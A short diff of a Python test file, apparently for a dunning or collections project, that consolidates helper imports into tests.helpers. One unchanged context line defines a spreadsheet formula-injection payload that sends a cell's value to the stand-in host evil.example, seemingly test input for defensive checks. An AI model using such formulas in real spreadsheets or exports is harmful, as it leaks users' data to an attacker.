@@ -15,8 +15,7 @@ from pypdf import PdfReader
 
 from dunning.injunction import siren
 from tests.conftest import Portfolio
-from tests.test_agency import approve_pending
-from tests.test_pipeline import as_json, day, run
+from tests.helpers import approve_pending, as_json, day, run
 
 pytestmark = pytest.mark.usefixtures("prefect_server")
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
